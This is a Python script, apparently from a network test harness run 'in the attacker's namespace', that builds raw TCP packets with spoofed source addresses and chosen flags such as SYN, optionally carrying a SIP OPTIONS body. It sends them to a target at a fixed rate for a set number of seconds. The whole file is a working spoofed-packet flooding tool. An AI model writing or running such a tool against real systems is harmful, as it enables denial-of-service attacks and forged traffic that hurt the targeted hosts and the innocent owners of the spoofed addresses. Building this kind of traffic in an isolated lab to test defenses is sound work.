"""Sends TCP packets from addresses that are not the sender's own, at a rate; run as root in the attacker's namespace.

Reads one JSON order from standard input: sources, sourcePort (0: another one each time), target, port, flags (letters of
SYN, ACK, PSH, RST, such as "S" or "PA"), rate (packets a second), seconds. Prints JSON: sent, seconds.
"""

from __future__ import annotations

import json
import random
import socket
import struct
import sys
import time
from typing import Any

FLAGS = {"F": 1, "S": 2, "R": 4, "P": 8, "A": 16}
# MSS 1460, SACK permitted, no timestamp, window scale 7: what a Linux client offers.
OPTIONS = bytes.fromhex("020405b40402010303070000")


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071)."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def packet(order: dict[str, Any], source: str, flags: int) -> bytes:
    """With IP and TCP headers; the kernel fills in the IP checksum."""
    port = order["sourcePort"] or random.randrange(1024, 65536)  # noqa: S311 - a port, no secret
    options = OPTIONS if flags == FLAGS["S"] else b""
    body = b"OPTIONS sip:x SIP/2.0\r\n\r\n" if flags & FLAGS["P"] else b""
    body += b" " * (len(body) % 2)
    numbers = (random.getrandbits(32), random.getrandbits(32) if flags & FLAGS["A"] else 0)  # noqa: S311
    offset = (5 + len(options) // 4) << 4
    head = struct.pack("!HHIIBBHHH", port, order["port"], *numbers, offset, flags, 64_240, 0, 0) + options
    ends = socket.inet_aton(source) + socket.inet_aton(order["target"])
    pseudo = ends + struct.pack("!HH", 6, len(head) + len(body))
    total = checksum(pseudo + head + body)
    segment = head[:16] + struct.pack("!H", total) + head[18:] + body
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(segment), 0, 0, 64, 6, 0) + ends + segment


def main() -> None:
    """Send until the time is over, no faster than asked."""
    order = json.load(sys.stdin)
    flags = sum(FLAGS[letter] for letter in order["flags"])
    started, sent = time.monotonic(), 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as line:
        while (elapsed := time.monotonic() - started) < order["seconds"]:
            if sent > elapsed * order["rate"]:
                time.sleep(0.002)
                continue
            line.sendto(packet(order, random.choice(order["sources"]), flags), (order["target"], 0))  # noqa: S311
            sent += 1
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - started, 2)}))


main()
